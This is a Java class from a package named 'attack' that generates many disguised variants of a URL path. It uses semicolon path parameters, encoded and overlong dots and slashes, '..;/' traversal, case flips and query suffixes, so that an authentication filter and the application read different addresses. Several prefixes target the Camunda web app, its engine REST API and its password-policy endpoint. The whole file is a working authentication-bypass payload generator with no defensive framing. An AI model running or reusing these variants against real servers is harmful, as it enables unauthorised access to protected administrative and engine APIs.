package org.xuanren.attack;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.TreeSet;

/** An address written in ways in which one reader, the filter that asks for a login, may see another address than the next one. */
final class BentAddresses {

    /** Behind a segment. */
    private static final List<String> MORE = List.of(";x", ";jsessionid=1", "/", "/.", "/;x", "/x/..", "/%2e", "/x/%2e%2e", "/..;/x/..", "%2f", "%252f", "%5c", "\\", "%00", "%20", "%3b",
        "%3f", ".", "..", ".json", "%c0%ae", "+");
    /** Before all. */
    private static final List<String> BEFORE = List.of("/", "/.", "/x/..", "/;x", "/%2e", "\\", "http://localhost", "http://localhost/.", "/camunda/app/..", "/camunda/app/%2e%2e", "/camunda/lib/..;",
        "/camunda/api/admin/auth/user/default/../../../..", "/camunda/api/engine/engine/default/identity/password-policy/../../../../../../..", "/engine-rest/..", "/webjars/..");
    private static final List<String> BEHIND = List.of("?x", "?;", "??", "#x", "?_method=GET", "/?x", "/identity/password-policy", "/../identity/password-policy");

    private BentAddresses() { }

    /** @param base how many of the segments lead to the API: the first two and the last of them are bent, and the last one of all */
    static Set<String> of(String address, int base) {
        var bent = new LinkedHashSet<String>();
        bent.add(address);
        BEFORE.forEach(before -> bent.add(before + address));
        BEHIND.forEach(behind -> bent.add(address + behind));
        var segments = address.substring(1).split("/");
        for (var i : new TreeSet<>(List.of(0, 1, base - 1, segments.length - 1))) {
            var segment = segments[i];
            for (var more : MORE) {
                bent.add(with(segments, i, segment + more));
            }
            bent.add(with(segments, i, segment.toUpperCase(Locale.ROOT)));
            bent.add(with(segments, i, segment.substring(0, 1).toUpperCase(Locale.ROOT) + segment.substring(1)));
            bent.add(with(segments, i, escaped(segment.charAt(0), "%") + segment.substring(1)));
            bent.add(with(segments, i, escaped(segment.charAt(0), "%25") + segment.substring(1)));
            bent.add(with(segments, i, escaped(segment.charAt(0), "%u00") + segment.substring(1)));
            bent.add(with(segments, i, segment + ";" + "a".repeat(segments[Math.min(i + 1, segments.length - 1)].length()))); // as long as what follows
        }
        return bent;
    }

    private static String escaped(char letter, String how) {
        return how + "%02x".formatted((int) String.valueOf(letter).getBytes(StandardCharsets.UTF_8)[0]);
    }

    private static String with(String[] segments, int place, String segment) {
        var all = segments.clone();
        all[place] = segment;
        return "/" + String.join("/", all);
    }
}
